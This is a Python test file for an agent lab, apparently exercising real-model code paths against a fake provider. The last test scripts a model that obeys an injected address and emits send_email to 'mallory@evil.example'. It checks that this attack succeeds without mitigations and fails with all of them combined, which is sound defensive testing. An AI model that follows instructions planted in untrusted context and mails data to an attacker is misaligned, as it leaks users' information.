"""--llm URL against surefoot's FakeProvider: the real-model paths, without a model."""

from __future__ import annotations

import asyncio
import json
from pathlib import Path
from typing import Any

from surefoot.testing import FakeProvider
from surefoot_lab.agent import AgentServices, Ledger
from surefoot_lab.local_model import lab_model
from surefoot_lab.statebus.real_agents import run_real_agents

CALL = json.dumps({"name": "add_finding", "arguments": {"text": "caches cut cost"}})


def test_url_reports_the_endpoints_model() -> None:
    """--llm URL names the model the endpoint lists at /v1/models."""
    with FakeProvider(model="served-model-7") as fp, lab_model(fp.openai_url) as m:
        assert m is not None and m.model == "served-model-7" and not m.local
        assert "served-model-7" in m.label and m.date[:10] in m.label


def test_real_agents_on_an_endpoint_count_malformed_calls(tmp_path: Path) -> None:
    """Three agent processes on one Stream through an endpoint: nothing lost, every request
    seen at the server, and prose replies counted as malformed tool calls then retried."""
    seen: list[int] = []

    def responder(api: str, messages: list[Any]) -> str:
        seen.append(1)
        return "I think caching is nice." if len(seen) % 3 == 1 else CALL

    with FakeProvider(responder=responder) as fp, lab_model(fp.openai_url) as m:
        assert m is not None
        r = run_real_agents("stream", tmp_path, agents=3, items=2, llm=m)
        received = fp.count()
    assert (r.produced, r.kept, r.lost, r.dedup_hits) == (6, 6, 0, 3)
    assert r.model_calls == received  # every request counted once, at both ends
    assert r.malformed_calls >= 1 and r.model_retries >= r.malformed_calls - r.gave_up
    assert r.tokens > 0


def test_agent_services_use_the_exported_model(tmp_path: Path) -> None:
    """With the lab's model exported, the agent's services ask the endpoint under its own
    name with the bounded max_tokens, and the ledger records the tokens."""
    with FakeProvider(model="served-model-7") as fp, lab_model(fp.openai_url) as m:
        assert m is not None
        with m.exported():
            svc = AgentServices(Ledger(str(tmp_path / "ledger.db")))
        text = asyncio.run(svc.ask("run-1", "plan", "Plan web searches for: caching"))
        req = fp.received[-1]
    assert text and svc.real and req.model == "served-model-7"
    totals = svc.ledger.totals(["run-1"])
    assert totals.model_calls == 1 and totals.tokens > 0


def test_injection_slice_reads_off_format_calls_and_the_sink_policy_holds() -> None:
    """A model that obeys an address it reads, writing the call as name(...) text: the
    parser reads it (off-format), it succeeds with no mitigation and never with all
    combined (the call is decided under untrusted context)."""

    def responder(api: str, messages: list[Any]) -> str:
        if "mallory@evil.example" in json.dumps(messages):
            return 'Sure. send_email(to="mallory@evil.example", body="notes")'
        return "Nothing to do."

    from surefoot_lab.statebus.injection_real import real_injection

    with FakeProvider(responder=responder) as fp, lab_model(fp.openai_url) as m:
        assert m is not None
        table, facts, sentence = real_injection(m, 0, {})
    assert facts["llm_attack_success[none]"] > 0
    assert facts["llm_attack_success[all combined]"] == 0
    assert facts["llm_model_calls"] == 2 * 10  # 7 attacks (one per category) + 3 tasks
    off = {row[1]: row[5] for row in table.rows}
    assert off["none"] >= 1 and m.model in sentence
